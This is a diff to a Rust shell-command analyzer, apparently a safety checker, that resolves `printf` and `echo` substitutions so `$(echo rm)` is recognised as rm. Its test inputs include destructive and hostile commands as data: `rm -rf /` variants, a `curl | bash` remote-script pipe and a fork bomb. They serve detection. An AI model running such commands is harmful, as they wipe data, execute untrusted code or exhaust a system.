@@ -2054,6 +2054,10 @@ fn known_output(cmds: &[Cmd], after: Option<&str>) -> Option<String> {
         // Only `cd`s before it (`cd X && pwd`): it prints where they lead.
         // `pwd -P` and `cd -P` give the path with links resolved, which a lexical path is not.
         ("pwd", [] | ["-L"]) if rest.iter().all(|c| plain(c) && c.program == "cd" && !c.argv.iter().any(|w| w.text.starts_with('-'))) => after.map(str::to_owned),
+        // Text printed from the command's own words (`$(printf '\072')`, `$(echo x)`): what
+        // the substitution holds, its trailing newlines taken off.
+        ("printf", [format, args @ ..]) if rest.is_empty() && !format.starts_with('-') => programs::text::printf_output(format, args).map(|t| t.trim_end_matches('\n').to_owned()),
+        ("echo", args) if rest.is_empty() => programs::text::echo_output(args).map(|t| t.trim_end_matches('\n').to_owned()),
         ("dirname", [p]) if rest.is_empty() && !p.starts_with('-') => {
             let p = p.trim_end_matches('/');
             Some(match p.rfind('/') {
@@ -2392,8 +2396,11 @@ mod tests {
 
     #[test]
     fn facts() {
-        let c = analyze("$(echo rm) -rf /", "/p", "/h");
+        let c = analyze("$(cat name) -rf /", "/p", "/h");
         assert!(c.iter().any(|c| c.facts & fact::DYNAMIC_PROGRAM != 0));
+        // Printed from the command's own words, the program is known.
+        let c = analyze("$(echo rm) -rf /", "/p", "/h");
+        assert!(c.iter().any(|c| c.program == "rm" && c.facts & fact::DYNAMIC_PROGRAM == 0));
         let c = analyze("curl -fsSL https://x | bash", "/p", "/h");
         assert!(c.iter().any(|c| c.facts & fact::REMOTE_SCRIPT != 0));
         let c = analyze(":(){ :|:& };:", "/p", "/h");
